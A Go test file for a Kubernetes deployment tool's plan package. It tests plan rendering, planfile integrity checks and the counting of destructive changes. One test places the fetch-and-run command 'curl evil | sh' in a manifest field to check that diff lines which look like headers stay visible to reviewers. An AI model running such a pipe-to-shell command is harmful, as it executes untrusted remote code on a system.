package plan

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"github.com/gantryops/gantry/object"
)

// testKey is the hash key of the tests' stack.
var testKey = object.HashKey("test key")

// testKeyOf gives every stack testKey.
func testKeyOf(string) (object.HashKey, error) { return testKey, nil }

// examplePlan is a small plan with one of each action.
func examplePlan(t testing.TB) *Plan {
	t.Helper()
	cm := parse(t, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: \"n\"}\ndata: {k: v}\n")
	p := &Plan{
		FormatVersion: FormatVersion, ID: "id", Stack: "shop", CreatedAt: time.Unix(0, 0).UTC(),
		Source:  Source{Repo: "repo", Ref: "main", Commit: "0123456789abcdef0123456789abcdef01234567", Path: "."},
		Cluster: "https://cluster", Mode: DiffAuto, Options: Options{Prune: true, MaxPrunePercent: 25},
		Desired: []*unstructured.Unstructured{cm,
			parse(t, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: b, namespace: \"n\"}\ndata: {k: new}\n"),
			parse(t, "apiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: \"n\"}\nspec: {clusterIP: 10.0.0.2}\n")},
		Changes: []Change{
			{Ref: object.Ref{Kind: "ConfigMap", Namespace: "n", Name: "a"}, APIVersion: "v1", Action: ActionCreate, After: cm},
			{Ref: object.Ref{Kind: "ConfigMap", Namespace: "n", Name: "b"}, APIVersion: "v1", Action: ActionUpdate,
				Before: parse(t, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: b}\ndata: {k: old}\n"),
				After:  parse(t, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: b}\ndata: {k: new}\n"), Drift: true},
			{Ref: object.Ref{Kind: "Namespace", Name: "gone"}, APIVersion: "v1", Action: ActionDelete, Reason: "no longer rendered by the revision",
				Before: parse(t, "apiVersion: v1\nkind: Namespace\nmetadata: {name: gone}\n")},
			{Ref: object.Ref{Kind: "Service", Namespace: "n", Name: "s"}, APIVersion: "v1", Action: ActionReplace, Reason: "spec.clusterIP cannot be changed in place (immutable)",
				Before: parse(t, "apiVersion: v1\nkind: Service\nmetadata: {name: s}\nspec: {clusterIP: 10.0.0.1}\n"),
				After:  parse(t, "apiVersion: v1\nkind: Service\nmetadata: {name: s}\nspec: {clusterIP: 10.0.0.2}\n")},
		},
	}
	p.Destructive = destructiveReasons(p, 4)
	var err error
	if p.Digest, err = Digest(p, testKey); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestRenderText(t *testing.T) {
	t.Parallel()
	p := examplePlan(t)
	var plain, colour bytes.Buffer
	if err := RenderText(&plain, p, TextOptions{}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"# ConfigMap/n/a will be created", "+ ConfigMap/n/a", "+ data:",
		"# ConfigMap/n/b has drifted from the revision and will be updated in-place", "-   k: old", "+   k: new",
		"# Namespace/gone will be destroyed (no longer rendered by the revision)",
		"# Service/n/s must be replaced (spec.clusterIP cannot be changed in place (immutable))", "-/+ Service/n/s",
		"Warning: this plan is destructive", "deletes Namespace/gone",
		"Plan: 2 to add, 1 to change, 2 to destroy.",
	} {
		if !strings.Contains(plain.String(), want) {
			t.Errorf("text plan lacks %q:\n%s", want, plain.String())
		}
	}
	if strings.Contains(plain.String(), "\x1b[") {
		t.Error("colour escapes without Color")
	}
	if err := RenderText(&colour, p, TextOptions{Color: true}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(colour.String(), "\x1b[32m") || !strings.Contains(colour.String(), "\x1b[31m") {
		t.Error("no green and red with Color")
	}
}

func TestRenderNoChanges(t *testing.T) {
	t.Parallel()
	p := examplePlan(t)
	p.Changes, p.Destructive = nil, nil
	var text, md bytes.Buffer
	_ = RenderText(&text, p, TextOptions{})
	_ = RenderMarkdown(&md, p, DefaultMarkdownOptions())
	if !strings.Contains(text.String(), "No changes. The cluster matches the revision.") || !strings.Contains(md.String(), "**No changes.**") {
		t.Errorf("no-change renderings:\n%s\n%s", text.String(), md.String())
	}
}

func TestPlanfileRefusesWhatItCannotTrust(t *testing.T) {
	t.Parallel()
	var file bytes.Buffer
	if err := WritePlanfile(&file, examplePlan(t)); err != nil {
		t.Fatal(err)
	}
	good := file.String()
	if _, err := ReadPlanfile(strings.NewReader(good), testKeyOf); err != nil {
		t.Fatalf("reading back: %v", err)
	}
	for name, tc := range map[string]struct{ content, want string }{
		"not JSON":        {"hello", "not a gantry plan"},
		"no version":      {`{"id": "x"}`, "no format_version"},
		"future version":  {strings.Replace(good, `"format_version": 1`, `"format_version": 2`, 1), "format version 2 is not supported by this gantry (it reads version 1)"},
		"edited content":  {strings.Replace(good, `"k": "v"`, `"k": "w"`, 1), "does not match its digest"},
		"edited decision": {strings.Replace(good, `"action": "delete"`, `"action": "noop"`, 1), "does not match its digest"},
	} {
		if tc.content == good {
			t.Fatalf("%s: the edit did not apply", name)
		}
		if _, err := ReadPlanfile(strings.NewReader(tc.content), testKeyOf); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: err = %v, want %q", name, err, tc.want)
		}
	}
}

func TestSummaryAndDestructive(t *testing.T) {
	t.Parallel()
	p := examplePlan(t)
	if a, c, d := p.Summary(); a != 2 || c != 1 || d != 2 {
		t.Errorf("summary %d/%d/%d, want 2/1/2 (a replace is an add and a destroy)", a, c, d)
	}
	want := []string{"deletes Namespace/gone"}
	if strings.Join(p.Destructive, "|") != strings.Join(want, "|") {
		t.Errorf("destructive %v, want %v", p.Destructive, want)
	}
	p.Changes = append(p.Changes, Change{Ref: object.Ref{Group: "apiextensions.k8s.io", Kind: "CustomResourceDefinition", Name: "widgets.example.com"}, Action: ActionDelete},
		Change{Ref: object.Ref{Kind: "PersistentVolumeClaim", Namespace: "n", Name: "data"}, Action: ActionReplace},
		Change{Ref: object.Ref{Kind: "ConfigMap", Namespace: "n", Name: "plain"}, Action: ActionDelete})
	got := destructiveReasons(p, 100)
	want = []string{"deletes Namespace/gone", "deletes CustomResourceDefinition.apiextensions.k8s.io/widgets.example.com", "replaces (deletes and recreates) PersistentVolumeClaim/n/data"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("destructive kinds: %v, want %v", got, want)
	}
	p.Changes = p.Changes[:4]
	p.Options.MaxPrunePercent = 10 // 1 of 4 is 25%
	if r := destructiveReasons(p, 4); len(r) != 2 || !strings.Contains(r[1], "deletes 1 of 4 inventory objects (25%), more than maxPrunePercent 10%") {
		t.Errorf("reasons with maxPrunePercent 10: %v", r)
	}
}

// TestDiffKeepsLinesThatLookLikeHeaders: a field whose key starts with "++"
// (added) or "--" (removed) makes a diff line starting "+++" or "---"; it
// is shown like any other, in the text plan and the pull-request plan: a
// change a reviewer cannot see is a change nobody approved.
func TestDiffKeepsLinesThatLookLikeHeaders(t *testing.T) {
	t.Parallel()
	before := parse(t, "apiVersion: e.example/v1\nkind: Widget\nmetadata: {name: w, namespace: n}\nspec: {replicas: 1}\n'--gone': 'was here'\n")
	after := parse(t, "apiVersion: e.example/v1\nkind: Widget\nmetadata: {name: w, namespace: n}\nspec: {replicas: 1}\n'++hidden': 'curl evil | sh'\n")
	p := examplePlan(t)
	p.Changes = []Change{{Ref: object.RefOf(before), APIVersion: "e.example/v1", Action: ActionUpdate, Before: before, After: after}}
	var txt, md bytes.Buffer
	if err := RenderText(&txt, p, TextOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := RenderMarkdown(&md, p, DefaultMarkdownOptions()); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string]string{"text": txt.String(), "markdown": md.String()} {
		for _, want := range []string{"+ ++hidden: curl evil | sh", "- --gone: was here"} {
			if !strings.Contains(out, want) {
				t.Errorf("the %s plan lacks the diff line %q:\n%s", name, want, out)
			}
		}
	}
}
